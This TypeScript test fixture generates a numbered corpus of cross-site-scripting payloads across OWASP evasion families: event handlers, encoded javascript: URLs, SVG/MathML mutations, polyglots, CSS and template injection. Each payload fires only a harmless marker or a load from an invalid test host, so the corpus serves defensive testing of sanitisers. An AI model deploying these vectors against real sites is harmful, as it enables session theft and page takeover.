// The cross-site-scripting corpus of tests/e2e/xss.test.ts: the families of the OWASP XSS Filter
// Evasion Cheat Sheet (script tags, event handlers, javascript:/data: URLs, SVG and MathML,
// entity and Unicode encodings, broken markup, CSS, resource loads), written out here rather
// than downloaded. Every payload carries its own number n and, if it ever runs, says so in one
// of three ways the suite watches for: it calls window.__xss(n), opens a dialog (alert(n)), or
// loads something from //xss.invalid/n. So an execution names the payload that caused it.

export interface XssPayload {
  /** 1-based, unique; appears in the payload's marker. */
  n: number;
  family: XssFamily;
  text: string;
}

export type XssFamily =
  | "script tags"
  | "event handlers"
  | "javascript: and data: URLs"
  | "SVG and MathML"
  | "entity and Unicode encodings"
  | "broken markup"
  | "CSS"
  | "resource loads and template contexts";

type Make = (n: number) => string;

/** The marker call. */
const x = (n: number) => `__xss(${n})`;
/** A host that must never be asked for anything. */
const h = (n: number) => `//xss.invalid/${n}`;
const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
/** Each character as a decimal, zero-padded decimal or hex HTML entity. */
const dec = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const hex = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join("");
const hexNoSemi = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)}`).join("");
const jsEscape = (text: string) =>
  [...text].map((c) => `\\u${c.codePointAt(0)!.toString(16).padStart(4, "0")}`).join("");

const FAMILIES: Record<XssFamily, Make[]> = {
  "script tags": [
    (n) => `<script>${x(n)}</script>`,
    (n) => `<script>alert(${n})</script>`,
    (n) => `<SCRIPT SRC=${h(n)}></SCRIPT>`,
    (n) => `<script src="${h(n)}.js"></script>`,
    (n) => `<SCRIPT/XSS SRC="${h(n)}"></SCRIPT>`,
    (n) => `<<SCRIPT>${x(n)};//\\<</SCRIPT>`,
    (n) => `<SCRIPT SRC=${h(n)}?< B >`,
    (n) => `<SCRIPT SRC=${h(n)}`,
    (n) => `<ScRiPt>${x(n)}</sCrIpT>`,
    (n) => `<scr<script>ipt>${x(n)}</scr</script>ipt>`,
    (n) => `<script>/*</script><script>*/${x(n)}</script>`,
    (n) => `<script type=module>${x(n)}</script>`,
    (n) => `<script>eval('__xss(${n})')</script>`,
    (n) => `<script>window['__x'+'ss'](${n})</script>`,
    (n) => `<script\ttype="text/javascript">${x(n)}</script>`,
    (n) => `<script\n>${x(n)}</script\n>`,
    (n) => `<script src=data:,${x(n)}></script>`,
    (n) => `<script>document.write('<img src=x onerror=${x(n)}>')</script>`,
    (n) => `<scr\u0000ipt>${x(n)}</scr\u0000ipt>`,
    (n) => `<script>confirm(${n})</script>`,
  ],
  "event handlers": [
    (n) => `<img src=x onerror=${x(n)}>`,
    (n) => `<img src=x onerror=alert(${n})>`,
    (n) => `<IMG SRC=/ onerror="${x(n)}"></img>`,
    (n) => `<img src onerror=${x(n)}>`,
    (n) => `<img/src/onerror=${x(n)}>`,
    (n) => `<img src=x onerror\n=${x(n)}>`,
    (n) => `<img src=x:${n} onerror=eval('__xss('+src.slice(2)+')')>`,
    (n) => `<IMG """><SCRIPT>${x(n)}</SCRIPT>">`,
    (n) => `<IMG SRC=# onmouseover="${x(n)}">`,
    (n) => `<body onload=${x(n)}>`,
    (n) => `<body onpageshow=${x(n)}>`,
    (n) => `<frameset onload=${x(n)}>`,
    (n) => `<svg onload=${x(n)}>`,
    (n) => `<svg/onload=${x(n)}>`,
    (n) => `<iframe onload=${x(n)}></iframe>`,
    (n) => `<details open ontoggle=${x(n)}>`,
    (n) => `<input autofocus onfocus=${x(n)}>`,
    (n) => `<select autofocus onfocus=${x(n)}></select>`,
    (n) => `<textarea autofocus onfocus=${x(n)}></textarea>`,
    (n) => `<video><source onerror=${x(n)}></video>`,
    (n) => `<audio src=x onerror=${x(n)}></audio>`,
    (n) => `<marquee onstart=${x(n)}>x</marquee>`,
    (n) => `<object data=x onerror=${x(n)}></object>`,
    (n) => `<style onload=${x(n)}></style>`,
    (n) => `<link rel=stylesheet href=x onerror=${x(n)}>`,
    (n) => `<a onmouseover=${x(n)}>x</a>`,
    (n) => `<x onclick=${x(n)}>click me`,
    (n) => `<form><button formaction=javascript:${x(n)}>x</button></form>`,
    (n) => `<isindex type=image src=1 onerror=${x(n)}>`,
    (n) => `<img src=x onerror=${x(n)}//`,
    (n) => `<div style="animation-name:spin" onanimationstart=${x(n)}>`,
    (n) => `<img src=x onerror=top[\`__xss\`](${n})>`,
  ],
  "javascript: and data: URLs": [
    (n) => `javascript:${x(n)}`,
    (n) => `javascript:alert(${n})`,
    (n) => `JaVaScRiPt:${x(n)}`,
    (n) => `javascript&colon;${x(n)}`,
    (n) => `jav&#x09;ascript:${x(n)}`,
    (n) => `jav\tascript:${x(n)}`,
    (n) => `java\nscript:${x(n)}`,
    (n) => ` &#14; javascript:${x(n)}`,
    (n) => `javascript://%0A${x(n)}`,
    (n) => `vbscript:msgbox(${n})`,
    (n) => `data:text/html,<script>${x(n)}</script>`,
    (n) => `data:text/html;base64,${b64(`<script>${x(n)}</script>`)}`,
    (n) => `<a href="javascript:${x(n)}">x</a>`,
    (n) => `<a href="&#106;avascript:${x(n)}">x</a>`,
    (n) => `<iframe src="javascript:${x(n)}"></iframe>`,
    (n) => `<iframe src=data:text/html,<script>${x(n)}</script>></iframe>`,
    (n) => `<object data="javascript:${x(n)}"></object>`,
    (n) => `<meta http-equiv="refresh" content="0;url=javascript:${x(n)}">`,
    (n) =>
      `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${b64(`<script>${x(n)}</script>`)}">`,
    (n) => `<form action=javascript:${x(n)}><input type=submit></form>`,
    (n) => `<math><a xlink:href="javascript:${x(n)}">x</a></math>`,
    (n) => `https://xss.invalid/${n}`,
    (n) => `https://xss.invalid/${n}"><script>${x(n)}</script>`,
    (n) => `https://xss.invalid/${n}?q=<script>${x(n)}</script>`,
    (n) => `https://xss.invalid/${n}#"onmouseover="${x(n)}`,
    (n) => `http://xss.invalid/${n}'onerror='${x(n)}`,
    (n) => `mailto:x@xss.invalid?body=<script>${x(n)}</script>`,
    (n) => `[x](javascript:${x(n)})`,
  ],
  "SVG and MathML": [
    (n) => `<svg><script>${x(n)}</script></svg>`,
    (n) => `<svg><script xlink:href=data:,${x(n)}></script></svg>`,
    (n) => `<svg><a xlink:href="javascript:${x(n)}"><text x=20 y=20>x</text></a></svg>`,
    (n) => `<svg><foreignObject><iframe src=javascript:${x(n)}></iframe></foreignObject></svg>`,
    (n) => `<svg><image href=x onerror=${x(n)}>`,
    (n) => `<svg><animate onbegin=${x(n)} attributeName=x dur=1s>`,
    (n) => `<svg><animate attributeName=href values=javascript:${x(n)} /><a id=x><text>x</text></a></svg>`,
    (n) => `<svg><style><img src=x onerror=${x(n)}></style></svg>`,
    (n) => `<svg><title><img src=x onerror=${x(n)}></title></svg>`,
    (n) => `<svg></p><style><a id="</style><img src=1 onerror=${x(n)}>">`,
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${x(n)}>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=${x(n)}>">`,
    (n) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${x(n)}'/></svg>#x">`,
    (n) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${x(n)}"/>`,
    (n) =>
      `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${x(n)}</handler></svg>`,
  ],
  "entity and Unicode encodings": [
    (n) => `&lt;script&gt;${x(n)}&lt;/script&gt;`,
    (n) => `&#60;script&#62;${x(n)}&#60;/script&#62;`,
    (n) => `<IMG SRC=${dec(`javascript:${x(n)}`)}>`,
    (n) => `<IMG SRC=${hexNoSemi(`javascript:${x(n)}`)}>`,
    (n) => `<a href="${hex(`javascript:${x(n)}`)}">x</a>`,
    (n) => `<img src=x onerror=&#95;&#95;xss&#40;${n}&#41;>`,
    (n) => `<img src=x onerror="&#0000106avascript:${x(n)}">`,
    (n) => `\\u003cscript\\u003e${x(n)}\\u003c/script\\u003e`,
    (n) => `%3Cscript%3E${x(n)}%3C/script%3E`,
    (n) => `\uFF1Cscript\uFF1E${x(n)}\uFF1C/script\uFF1E`,
    (n) => `\u00BCscript\u00BE${x(n)}\u00BC/script\u00BE`,
    (n) => `+ADw-script+AD4-${x(n)}+ADw-/script+AD4-`,
    (n) => `<script>${jsEscape("__xss")}(${n})</script>`,
    (n) => `\u2028<script>${x(n)}</script>\u2029`,
    (n) => `</script>\u2028${x(n)}\u2029<script>`,
    (n) => `java\u200Bscript:${x(n)}`,
    (n) => `<a href="java\u0000script:${x(n)}">x</a>`,
    (n) => `\u202E<img src=x onerror=${x(n)}>`,
    (n) => `<\u017Fcript>${x(n)}</\u017Fcript>`,
    (n) => `<\u0130mg src=x onerror=${x(n)}>`,
    (n) => `\uFEFF<svg onload=${x(n)}>`,
    (n) => `<img src=x onerror=${x(n)}>\uD83D\uDE00\u0301`,
  ],
  "broken markup": [
    (n) => `"><img src=x onerror=${x(n)}>`,
    (n) => `'><svg onload=${x(n)}>`,
    (n) => `" onmouseover="${x(n)}`,
    (n) => `" autofocus onfocus="${x(n)}`,
    (n) => `--><script>${x(n)}</script>`,
    (n) => `<![CDATA[<script>${x(n)}</script>]]>`,
    (n) => `<!--<img src="--><img src=x onerror=${x(n)}//">`,
    (n) => `</textarea><script>${x(n)}</script>`,
    (n) => `</title><script>${x(n)}</script>`,
    (n) => `</style><script>${x(n)}</script>`,
    (n) => `</script><script>${x(n)}</script>`,
    (n) => `</ScRiPt ><img src=x onerror=${x(n)}>`,
    (n) => `"},"x":"</script><script>${x(n)}</script>`,
    (n) => `<x/onclick=${x(n)}>`,
    (n) => `<IMG SRC="jav ascript:${x(n)};">`,
    (n) => `<<img src=x onerror=${x(n)}//<`,
    (n) => `<img src='x' onerror='${x(n)}'`,
    (n) => `';${x(n)};//`,
    (n) => `\\";${x(n)};//`,
    (n) => `<xmp><p title="</xmp><img src=x onerror=${x(n)}>">`,
    (n) => `<table><td background="javascript:${x(n)}">`,
    (n) => `<!--<script>${x(n)}</script>-->`,
    (n) => `<img src="x\`<script>${x(n)}</script>"\`>`,
    (n) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${x(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${x(n)}//>\\x3e`,
    (n) =>
      `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${x(n)}//'>`,
    (n) => `<plaintext><img src=x onerror=${x(n)}>`,
  ],
  CSS: [
    (n) => `<STYLE>@import'${h(n)}';</STYLE>`,
    (n) => `<LINK REL="stylesheet" HREF="${h(n)}.css">`,
    (n) => `<div style="background-image:url(javascript:${x(n)})">x</div>`,
    (n) => `<div style="background:url('${h(n)}')">x</div>`,
    (n) => `<STYLE>li {list-style-image: url("javascript:${x(n)}");}</STYLE><UL><LI>x</UL>`,
    (n) => `<STYLE>BODY{-moz-binding:url("${h(n)}#xss")}</STYLE>`,
    (n) => `<DIV STYLE="width: expression(${x(n)});">`,
    (n) => `<style>*{background:url(${h(n)})}</style>`,
    (n) => `<STYLE TYPE="text/javascript">${x(n)};</STYLE>`,
    (n) => `<IMG STYLE="xss:expr/*XSS*/ession(${x(n)})">`,
    (n) => `<XSS STYLE="behavior: url(${h(n)}.htc);">`,
    (n) => `<svg><style>@import '${h(n)}'</style></svg>`,
    (n) => `<style>@font-face{font-family:x;src:url(${h(n)})}body{font-family:x}</style>`,
    (n) => `<div style="x:\\65xpression(${x(n)})">`,
  ],
  "resource loads and template contexts": [
    (n) => `<base href="${h(n)}/">`,
    (n) => `<iframe src=${h(n)}></iframe>`,
    (n) => `<iframe srcdoc="<script>parent.${x(n)}</script>"></iframe>`,
    (n) => `<object data=${h(n)}></object>`,
    (n) => `<embed src=${h(n)}>`,
    (n) => `<img srcset=${h(n)}>`,
    (n) => `<meta http-equiv=refresh content="0;url=${h(n)}">`,
    (n) => `<script type=module>import '${h(n)}'</script>`,
    (n) => `<img src=${h(n)}>`,
    (n) => `\${${x(n)}}`,
    (n) => `{{constructor.constructor('${x(n)}')()}}`,
    (n) => `{{${x(n)}}}`,
    (n) => `<div v-html="'<img src=x onerror=${x(n)}>'"></div>`,
  ],
};

function build(): XssPayload[] {
  const payloads: XssPayload[] = [];
  for (const [family, makers] of Object.entries(FAMILIES) as Array<[XssFamily, Make[]]>) {
    for (const make of makers) {
      const n = payloads.length + 1;
      payloads.push({ n, family, text: make(n) });
    }
  }
  return payloads;
}

export const XSS_PAYLOADS: readonly XssPayload[] = build();

/** Payloads per family, for the report. */
export function familyCounts(payloads: readonly XssPayload[] = XSS_PAYLOADS): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const payload of payloads) counts[payload.family] = (counts[payload.family] ?? 0) + 1;
  return counts;
}
